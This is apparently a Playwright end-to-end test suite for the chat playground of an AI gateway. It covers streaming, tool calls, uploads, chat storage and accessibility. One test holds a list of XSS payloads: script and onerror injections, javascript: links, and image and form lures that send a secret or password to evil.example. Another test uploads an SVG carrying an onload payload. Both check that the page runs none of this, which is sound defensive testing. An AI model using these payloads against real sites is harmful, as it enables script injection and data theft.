import { readFileSync } from 'node:fs'
import { type Locator, type Page, expect as usual } from '@playwright/test'
import { LANGUAGES, type Page as ListPage, type Log, ROLE } from '@tollgate/contract'
import { barriers } from './axe.ts'
import { logged } from './logged.ts'
import { problemsOnScreen, settled } from './page-problems.ts'
import { enter, STATES, TRIED_FOR_BARRIERS } from './page-states.ts'
import { type AskedOfModel, type ScriptedModel, startScriptedModel } from './scripted-model.ts'
import { test as base } from './signed-in.ts'

/** A slow machine takes a while to show a page. */
const expect = usual.configure({ timeout: 20_000 })

/** A gateway with one channel to a model whose answers the test writes. */
const test = base.extend<{ model: ScriptedModel }>({
  model: [
    async ({ operator }, use) => {
      const model = await startScriptedModel()
      const names = 'gpt-4o,gpt-4o-mini'
      await operator.addChannel({ type: 1, name: 'Scripted', models: names, key: 'sk-x', base_url: model.url })
      await operator.addChannel({
        type: 1,
        name: 'For few',
        models: 'gpt-vip',
        group: 'vip',
        key: 'k',
        base_url: model.url,
      })
      await use(model)
      await model.stop()
    },
    { auto: true },
  ],
})

const prompt = (page: Page) => page.getByRole('textbox', { name: 'Message', exact: true }).last()
const answers = (page: Page | Locator) => page.locator('li[data-state]')
const done = (page: Page | Locator) => page.locator('li[data-state=done]')

async function open(page: Page): Promise<void> {
  await page.goto('/playground')
  await expect(page.getByRole('button', { name: 'Send' })).toBeVisible()
  await expect(page.locator('.ant-select').first()).toContainText('gpt')
}

async function say(page: Page, text: string): Promise<void> {
  await prompt(page).fill(text)
  await prompt(page).press('Enter')
}

const lastSaid = ({ messages }: AskedOfModel) => messages.at(-1)?.content
const echo = (asked: AskedOfModel) => [{ text: `You said: ${lastSaid(asked)}` }]

/** Chooses from a list of the component library. */
async function choose(page: Page, label: string, option: string): Promise<void> {
  await page.getByRole('combobox', { name: label, exact: true }).click()
  await page.locator('.ant-select-dropdown:visible').getByTitle(option, { exact: true }).click()
}

test('an answer streams, shows its time, tokens and receipt, and the receipt is the charge', async ({
  page,
  model,
  operator,
}) => {
  model.answer = () => [{ reasoning: 'Let me think.' }, { text: 'It **rains**' }, 'hold', { text: ' in Oslo.' }]
  await open(page)
  await say(page, 'Weather?')
  await expect(page.getByText('rains', { exact: true })).toBeVisible()
  await expect(page.getByText('in Oslo')).toHaveCount(0)
  model.letGo()
  await expect(done(page)).toContainText('It rains in Oslo.')
  await expect(done(page).locator('strong')).toHaveText('rains')

  await expect(page.getByText('Let me think.')).toBeHidden()
  await done(page).getByText('Reasoning', { exact: true }).click()
  await expect(page.getByText('Let me think.')).toBeVisible()

  await expect(done(page)).toContainText('12 → 7 tokens')
  await expect(done(page)).toContainText(/First token [\d.]+ s/)
  await expect(done(page)).toContainText(/Total [\d.]+ s/)
  const receipt = done(page).getByRole('link', { name: /^Receipt: \$0\.0/ })
  await expect(receipt).toBeVisible()
  await receipt.click()
  await expect(page).toHaveURL(/\/log\?request_id=/)
  await expect(page.getByRole('button', { name: /^Details of/ })).toHaveCount(1)
  const { items } = await operator.ask<ListPage<Log>>('GET', '/api/log/self?type=2')
  expect(items).toMatchObject([{ token_name: 'playground-default', token_id: 0, prompt_tokens: 12 }])
})

test('Enter sends, Shift+Enter starts a line, Escape stops, and what came stays', async ({ page, model }) => {
  model.answer = () => [{ text: 'One two' }, 'hold', { text: ' three' }]
  await open(page)
  await prompt(page).pressSequentially('first')
  await prompt(page).press('Shift+Enter')
  await prompt(page).pressSequentially('second')
  await prompt(page).press('Enter')
  await expect(answers(page)).toContainText('One two')
  expect(lastSaid(model.asked[0] as AskedOfModel)).toBe('first\nsecond')
  await page.keyboard.press('Escape')
  await expect(page.locator('li[data-state=stopped]')).toContainText('One two')
  await expect(page.getByText('Stopped', { exact: true })).toBeVisible()
  await expect.poll(() => model.left).toBe(1)
  await expect(page.getByRole('button', { name: 'Send' })).toBeVisible()
})

test('the system prompt and the parameters that are on are sent, and no other', async ({ page, model }) => {
  model.answer = echo
  await open(page)
  await page.getByRole('textbox', { name: 'System prompt' }).fill('Be brief.')
  await page.getByRole('switch', { name: 'Temperature' }).click()
  await page.getByRole('spinbutton', { name: 'Temperature' }).fill('0.3')
  await page.getByRole('switch', { name: 'Stop at' }).click()
  await page.getByRole('textbox', { name: 'Stop at' }).fill('END')
  await page.getByRole('switch', { name: 'Stream the answer' }).click()
  await say(page, 'Hi')
  await expect(done(page)).toContainText('You said: Hi')
  const [asked] = model.asked
  expect(asked).toMatchObject({
    model: 'gpt-4o-mini',
    messages: [
      { role: 'system', content: 'Be brief.' },
      { role: 'user', content: 'Hi' },
    ],
    temperature: 0.3,
    stop: ['END'],
  })
  expect(Object.keys(asked ?? {}).sort()).toEqual(['messages', 'model', 'stop', 'temperature'])
})

test('messages can be edited, answered again, deleted and gone on from, each version kept', async ({ page, model }) => {
  let count = 0
  model.answer = asked => [{ text: `Answer ${++count} to ${lastSaid(asked)}` }]
  await open(page)
  await say(page, 'alpha')
  await expect(done(page)).toContainText('Answer 1 to alpha')
  await done(page).getByRole('button', { name: 'Answer again' }).click()
  await expect(done(page)).toContainText('Answer 2 to alpha')
  await done(page).getByRole('button', { name: 'Previous version' }).click()
  await expect(done(page)).toContainText('Answer 1 to alpha')

  await page.getByRole('button', { name: 'Edit' }).click()
  await page.getByRole('textbox', { name: 'Message' }).first().fill('beta')
  await page.getByRole('textbox', { name: 'Message' }).first().press('Enter')
  await expect(done(page)).toContainText('Answer 3 to beta')
  expect(model.asked.at(-1)?.messages).toEqual([{ role: 'user', content: 'beta' }])

  await done(page).getByRole('button', { name: 'Go on in a new chat' }).click()
  await say(page, 'gamma')
  await expect(done(page)).toHaveCount(2)
  await page.getByRole('button', { name: 'Chats', exact: true }).click()
  await expect(page.getByRole('dialog').getByRole('listitem')).toHaveCount(2)
  await page.keyboard.press('Escape')

  await page.getByRole('button', { name: 'Delete from here on' }).nth(2).click()
  await expect(done(page)).toHaveCount(1)
  await page.getByRole('button', { name: 'Undo' }).click()
  await expect(done(page)).toHaveCount(2)
})

test('a tool is called, the user says what it gave, and the model goes on', async ({ page, model }) => {
  model.answer = asked =>
    asked.messages.at(-1)?.role === 'tool'
      ? [{ text: `It is ${lastSaid(asked)}.` }]
      : [{ tool: { id: 'call_7', name: 'weather', arguments: '{"city":"Oslo"}' } }]
  await open(page)
  await page.getByRole('button', { name: 'Add a tool' }).click()
  await page.getByRole('textbox', { name: 'Name' }).fill('weather')
  await page.getByRole('textbox', { name: 'Description' }).fill('The weather in a city')
  await say(page, 'Weather in Oslo?')
  await expect(done(page)).toContainText('Called weather')
  await expect(done(page).locator('pre')).toHaveText('{\n  "city": "Oslo"\n}')
  await page.getByRole('textbox', { name: 'Result of weather' }).fill('rainy')
  await page.getByRole('button', { name: 'Send the results' }).click()
  await expect(done(page).last()).toContainText('It is rainy.')
  expect(model.asked[0]?.tools).toMatchObject([
    {
      type: 'function',
      function: { name: 'weather', description: 'The weather in a city', parameters: { type: 'object' } },
    },
  ])
  expect(model.asked[1]?.messages.slice(1)).toMatchObject([
    { role: 'assistant', tool_calls: [{ id: 'call_7', function: { name: 'weather', arguments: '{"city":"Oslo"}' } }] },
    { role: 'tool', tool_call_id: 'call_7', content: 'rainy' },
  ])
})

test('two models answer the same prompt side by side, in their own formats', async ({ page, model }) => {
  model.answer = asked => [{ text: `${asked.model} heard ${lastSaid(asked)}` }]
  await open(page)
  await page.getByRole('switch', { name: 'Compare two models' }).click()
  await choose(page, 'Model, second model', 'gpt-4o')
  await choose(page, 'API format, second model', 'Anthropic Messages')
  await say(page, 'hello')
  const column = (name: string) => page.getByRole('region', { name: `Conversation with ${name}`, exact: true })
  await expect(done(column('gpt-4o-mini'))).toContainText('gpt-4o-mini heard hello')
  await expect(done(column('gpt-4o'))).toContainText('gpt-4o heard')
  await say(page, 'again')
  await expect(done(page)).toHaveCount(4)
  expect(model.asked.filter(({ messages }) => messages.length === 3)).toHaveLength(2)
})

for (const format of ['OpenAI Responses', 'Anthropic Messages', 'Gemini']) {
  test(`${format}: a stream comes through, and an error is told in its words`, async ({ page, model, operator }) => {
    model.answer = () => [{ text: 'Through ' }, { text: 'and through.' }]
    await operator.setOption('SelfUseModeEnabled', true)
    // A host that only speaks Chat.
    await operator.addChannel({ type: 42, name: 'Chat', models: 'gpt-chat', key: 'k', base_url: model.url })
    await open(page)
    await choose(page, 'Model', 'gpt-chat')
    await choose(page, 'API format', format)
    await say(page, 'Hi')
    await expect(done(page)).toContainText('Through and through.')
    await expect(done(page)).toContainText('12 → 7 tokens')
    await model.stop()
    await say(page, 'Hi again')
    await expect(page.locator('li[data-state=failed]').getByRole('alert')).toContainText(/\w+ \w+/)
    await expect(page.getByRole('button', { name: 'Try again' })).toBeVisible()
  })
}

test('the models of a group are offered, and what they answer is charged there', async ({ page, model, operator }) => {
  model.answer = echo
  await operator.setOption('GroupRatio', '{"default":1,"vip":2}')
  await operator.setOption('UserUsableGroups', '{"default":"Default","vip":"Paying"}')
  await operator.setOption('SelfUseModeEnabled', true)
  await open(page)
  await choose(page, 'Group', 'vip ×2')
  await expect(page.locator('.ant-select').first()).toContainText('gpt-vip')
  await say(page, 'Hi')
  await expect(done(page)).toContainText('You said: Hi')
  await logged(operator, 'type=2', 1)
  const { items } = await operator.ask<ListPage<Log>>('GET', '/api/log/self?type=2')
  expect(items).toMatchObject([{ token_name: 'playground-vip', group: 'vip', model_name: 'gpt-vip' }])
})

/** One pixel. */
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=='

test('pictures and files are chosen, dropped and pasted; what cannot be sent is refused with the reason', async ({
  page,
  model,
}) => {
  model.answer = () => [{ text: 'A dot.' }]
  await open(page)
  const chooser = page.locator('input[type=file]').first()
  await chooser.setInputFiles([
    { name: 'dot.png', mimeType: 'image/png', buffer: Buffer.from(PNG, 'base64') },
    { name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('buy milk') },
    { name: 'evil.svg', mimeType: 'image/svg+xml', buffer: Buffer.from('<svg onload=alert(1)>') },
    { name: 'huge.png', mimeType: 'image/png', buffer: Buffer.alloc(9 * 1024 * 1024) },
  ])
  await expect(page.getByText('evil.svg cannot be sent', { exact: false })).toBeVisible()
  await expect(page.getByText('huge.png is too large', { exact: false })).toBeVisible()
  // What was chosen is there before anything is pasted: files stand in the order in which they were read.
  await expect(page.getByRole('img', { name: 'dot.png' })).toBeVisible()
  const dot = `Uint8Array.from(atob('${PNG}'), letter => letter.charCodeAt(0))`
  for (const kind of ['paste', 'drop'])
    await prompt(page).evaluate(
      (field, { kind, dot }) => {
        const data = new DataTransfer()
        // biome-ignore lint/security/noGlobalEval: the test's own text
        data.items.add(new File([eval(dot)], `${kind}.png`, { type: 'image/png' }))
        const Event = kind === 'paste' ? ClipboardEvent : DragEvent
        const bubbles = { bubbles: true, cancelable: true }
        field.dispatchEvent(new Event(kind, { ...bubbles, clipboardData: data, dataTransfer: data } as EventInit))
      },
      { kind, dot },
    )
  await expect(page.getByRole('img', { name: 'drop.png' })).toBeVisible()
  await page.getByRole('button', { name: 'Remove paste.png' }).click()
  await say(page, 'What is this?')
  await expect(done(page)).toContainText('A dot.')
  expect(lastSaid(model.asked[0] as AskedOfModel)).toEqual([
    { type: 'image_url', image_url: { url: `data:image/png;base64,${PNG}` } },
    { type: 'text', text: 'notes.txt:\n\nbuy milk' },
    { type: 'image_url', image_url: { url: `data:image/png;base64,${PNG}` } },
    { type: 'text', text: 'What is this?' },
  ])
})

const HOSTILE = [
  '<img src=x onerror="window.hacked=1"><script>window.hacked=2</script>',
  '<iframe srcdoc="<script>parent.hacked=3</script>"></iframe><svg onload="window.hacked=4"></svg>',
  '[click](javascript:window.hacked=5) [data](data:text/html,<script>window.hacked=6</script>)',
  '![picture](https://evil.example/leak.png?secret=1)',
  '<form action="https://evil.example"><input name=password></form><style>body{display:none}</style>',
  '- item\n\n  ```html"onmouseover="window.hacked=7\n  <img src=x onerror=window.hacked=8>\n  ```',
  '```html\n<!doctype html><script>window.hacked=9</script>\n```',
  '```"><img src=x onerror=window.hacked=10>\ntext\n```',
  '<a href="https://evil.example" class="ant-modal-mask" id="root" style="position:fixed">x</a>',
  '| a |\n|---|\n| <img src=x onerror=window.hacked=11> |',
]

test('nothing that a model writes is run, loaded or dressed up as the console', async ({ page, model }) => {
  const strange: string[] = []
  page.on('request', request => !request.url().startsWith('http://127.0.0.1') && strange.push(request.url()))
  page.on('dialog', dialog => strange.push(dialog.message()))
  const text = HOSTILE.join('\n\n')
  model.answer = () => [{ reasoning: text }, { tool: { id: 'x', name: text, arguments: text } }, { text }]
  await open(page)
  await say(page, HOSTILE[0] ?? '')
  await expect(done(page)).toContainText('window.hacked=11')
  await done(page).getByText('Reasoning', { exact: true }).click()
  const links = await done(page)
    .locator('a')
    .evaluateAll(found => found.map(link => [link.getAttribute('href') ?? '', link.getAttribute('rel') ?? '']))
  for (const [href, rel] of links) {
    // A link to a script has lost its address.
    expect(href).toMatch(/^$|^https:\/\/evil\.example|^\/log\?/)
    if (href?.startsWith('https:')) expect(rel).toContain('noopener')
  }
  const dangers = done(page).locator('img, iframe, script, form, style, svg[onload], [onerror], #root, .ant-modal-mask')
  await expect(dangers).toHaveCount(0)
  await expect.poll(() => page.evaluate(() => 'hacked' in window)).toBe(false)
  expect(strange).toEqual([])
  await expect(prompt(page)).toBeVisible()
})

test('the conversation is shown as code in every language and format, with what is being written', async ({
  page,
  model,
  gateway,
}) => {
  model.answer = echo
  await open(page)
  await say(page, "it's")
  await expect(done(page)).toContainText("it's")
  await prompt(page).fill('and now')
  await page.getByRole('button', { name: 'Show as code' }).click()
  const drawer = page.getByRole('dialog', { name: 'Show as code' })
  const code = drawer.locator('pre')
  await expect(code).toContainText(`curl -N '${gateway.url}/v1/chat/completions'`)
  await expect(code).toContainText("it'\\''s")
  await expect(code).toContainText('and now')
  const signs: Record<string, [string, string]> = {
    'OpenAI Responses': ['client.responses.create(', 'client.responses.create('],
    'Anthropic Messages': ['from anthropic import Anthropic', "import Anthropic from '@anthropic-ai/sdk'"],
    Gemini: ['client.models.generate_content_stream(', 'client.models.generateContentStream('],
  }
  for (const [format, [python, typescript]] of Object.entries(signs)) {
    await drawer.getByRole('combobox', { name: 'API format' }).click()
    await page.locator('.ant-select-dropdown:visible').getByTitle(format, { exact: true }).click()
    await drawer.getByText('Python', { exact: true }).click()
    await expect(code).toContainText(python)
    await drawer.getByText('TypeScript', { exact: true }).click()
    await expect(code).toContainText(typescript)
  }
})

test('chats stay in the browser, are found again, exported, deleted and imported', async ({ page, model }) => {
  model.answer = echo
  await open(page)
  await say(page, 'remember me')
  await expect(done(page)).toContainText('You said: remember me')
  await page.getByRole('button', { name: 'New chat', exact: true }).click()
  await expect(page.getByText('What would you like to try?')).toBeVisible()
  await page.getByRole('button', { name: /^Explain how a hash table/ }).click()
  await prompt(page).press('Enter')
  await expect(done(page)).toContainText('hash table')
  await page.getByRole('button', { name: 'Chats', exact: true }).click()
  await expect(page.getByRole('dialog').getByRole('listitem')).toHaveCount(2)
  const download = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Export all' }).click()
  const path = await (await download).path()
  expect(JSON.parse(readFileSync(path, 'utf8')).conversations).toHaveLength(2)

  await page.reload()
  await expect(done(page)).toContainText('hash table')
  await page.getByRole('button', { name: 'Chats', exact: true }).click()
  await page.getByRole('button', { name: /^remember me/ }).click()
  await expect(done(page)).toContainText('You said: remember me')

  await page.getByRole('button', { name: 'Chats', exact: true }).click()
  await page.getByRole('button', { name: 'Delete all' }).click()
  await page.getByRole('dialog', { name: 'Delete all chats?' }).getByRole('button', { name: 'Delete all' }).click()
  await expect(page.getByText('No chats yet.', { exact: false })).toBeVisible()
  await page.locator('input[accept^="application/json"]').setInputFiles(path)
  await expect(page.getByText('Chats imported: 2')).toBeVisible()
  await expect(page.getByRole('dialog').getByRole('listitem')).toHaveCount(2)
  const wrong = { name: 'x.json', mimeType: 'application/json', buffer: Buffer.from('{"conversations":[]}') }
  await page.locator('input[accept^="application/json"]').setInputFiles(wrong)
  await expect(page.getByText('This is not a file of exported chats', { exact: false })).toBeVisible()
})

test('a chat of a thousand messages opens, shows its end and is typed into', async ({ page, model }) => {
  model.answer = echo
  const messages: Record<string, object> = {}
  let parent: string | null = null
  for (let at = 0; at < 1_000; at++) {
    const id = `m${at}`
    const text = `Message ${at}\n\n${'The keeper of the gate writes **everything** down. '.repeat(40)}`
    messages[id] =
      at % 2 === 0
        ? { id, parent, role: 'user', parts: [{ kind: 'text', text }] }
        : { id, parent, role: 'assistant', state: 'done', text, model: 'gpt-4o', format: 'openai-chat' }
    parent = id
  }
  const threads = [{ model: 'gpt-4o', group: '', format: 'openai-chat', messages, leaf: parent }]
  const file = { tollgate_playground: 1, conversations: [{ id: 'long', title: 'A long one', threads }] }
  await open(page)
  await page.getByRole('button', { name: 'Chats', exact: true }).click()
  const buffer = Buffer.from(JSON.stringify(file))
  await page
    .locator('input[accept^="application/json"]')
    .setInputFiles({ name: 'long.json', mimeType: 'application/json', buffer })
  await page.keyboard.press('Escape')
  await expect(page.getByRole('button', { name: 'Answer again' }).last()).toBeInViewport()
  await expect(page.getByText('Message 999')).toBeAttached()
  await expect(page.getByText('Message 900')).toHaveCount(0)
  await expect(page.getByRole('button', { name: 'Show earlier messages: 960' })).toBeAttached()
  await say(page, 'still there?')
  await expect(done(page).last()).toContainText('You said: still there?')
  expect(model.asked[0]?.messages).toHaveLength(1_001)
})

test('an answer that was coming when the page was left says so', async ({ page, model }) => {
  model.answer = () => [{ text: 'Half an' }, 'hold']
  await open(page)
  await say(page, 'Hi')
  await expect(answers(page)).toContainText('Half an')
  await expect
    .poll(() =>
      page.evaluate(async () => (await indexedDB.databases()).length > 0 && document.visibilityState === 'visible'),
    )
    .toBe(true)
  await page.getByRole('button', { name: 'Chats', exact: true }).click()
  await expect(page.getByRole('dialog').getByRole('listitem')).toHaveCount(1)
  await page.reload()
  await expect(page.locator('li[data-state=lost]')).toContainText('The page was closed before')
})

test('another user of the browser sees no chat of this one', async ({ page, model, operator }) => {
  model.answer = echo
  await open(page)
  await say(page, 'a secret of mine')
  await expect(done(page)).toContainText('a secret of mine')
  await page.getByRole('button', { name: 'Chats', exact: true }).click()
  await expect(page.getByRole('dialog').getByRole('listitem')).toHaveCount(1)
  const account = { username: 'another', password: 'quite another one' }
  await operator.ask('POST', '/api/user/', { ...account, display_name: 'Another' })
  const { data: other } = await (await page.request.post('/api/user/login', { data: account })).json()
  await page.addInitScript(user => localStorage.setItem('user', user), JSON.stringify(other))
  await page.reload()
  await expect(page.getByText('What would you like to try?')).toBeVisible()
  await expect(page.getByText('a secret of mine')).toHaveCount(0)
})

test('where no model can be called, administrators are led to a new channel, others to the operator', async ({
  page,
  operator,
}) => {
  let user = operator.user
  await page.route('/api/user/models*', route => route.fulfill({ json: { success: true, message: '', data: [] } }))
  await page.route('/api/user/self', route => route.fulfill({ json: { success: true, message: '', data: user } }))
  await page.goto('/playground')
  const main = page.getByRole('main')
  await expect(main.getByText('Ask the operator for one')).toHaveCount(0)
  await main.getByRole('link', { name: 'Add a channel' }).click()
  await expect(page).toHaveURL(/\/channel\/add$/)

  user = { ...user, role: ROLE.user }
  await page.goto('/playground')
  await expect(main.getByText('You may not call any model yet. Ask the operator for one.')).toBeVisible()
  await expect(main.getByRole('link', { name: 'Add a channel' })).toHaveCount(0)
})

test('a conversation is whole in three languages, both themes, on a desktop and a phone, without barriers', async ({
  page,
  model,
}) => {
  test.setTimeout(240_000)
  model.answer = asked =>
    asked.messages.length > 2
      ? [{ tool: { id: 'c', name: 'weather', arguments: '{"city":"Oslo"}' } }]
      : [
          { reasoning: '1 + 1 = 2.' },
          {
            text: '## 1\n\n- **2**\n- `3`\n\n| 4 | 5 |\n|---|---|\n| 6 | 7 |\n\n> 8\n\n```python\nfor n in range(10):\n    print(n, "ok")  # 9\n```\n',
          },
        ]
  const problems: string[] = []
  await open(page)
  await page.getByRole('button', { name: 'Add a tool' }).click()
  await page.getByRole('textbox', { name: 'Name' }).fill('weather')
  await page.getByRole('switch', { name: 'Temperature' }).click()
  await say(page, '1?')
  await expect(done(page)).toHaveCount(1)
  await say(page, '2?')
  await expect(done(page)).toHaveCount(2)
  await page.getByRole('button', { name: 'Chats', exact: true }).click()
  await expect(page.getByRole('dialog').getByRole('listitem')).toHaveCount(1)

  for (const language of LANGUAGES) {
    await page.addInitScript(language => localStorage.setItem('i18nextLng', language), language)
    for (const [name, state] of Object.entries(STATES)) {
      await enter(page, state)
      await page.goto('/playground')
      await expect(done(page)).toHaveCount(2)
      await settled(page)
      const place = `${language} ${name}`
      problems.push(...(await problemsOnScreen(page, language)).map(problem => `${place}: ${problem}`))
      if (language === TRIED_FOR_BARRIERS)
        problems.push(...(await barriers(page)).map(problem => `${place}: ${problem}`))
      // Chats, code, and on a phone the settings; the last button starts a new chat.
      const drawers = (await page.locator('main header .ant-btn').all()).slice(0, -1)
      for (const [at, button] of drawers.entries()) {
        await button.click()
        await expect(page.getByRole('dialog')).toBeVisible()
        await settled(page)
        problems.push(
          ...(await problemsOnScreen(page, language)).map(problem => `${place}, drawer ${at}: ${problem}`),
          ...(language === TRIED_FOR_BARRIERS ? await barriers(page) : []).map(
            problem => `${place}, drawer ${at}: ${problem}`,
          ),
        )
        await page.keyboard.press('Escape')
        await expect(page.getByRole('dialog')).toHaveCount(0)
      }
    }
  }
  expect([...new Set(problems)]).toEqual([])
})
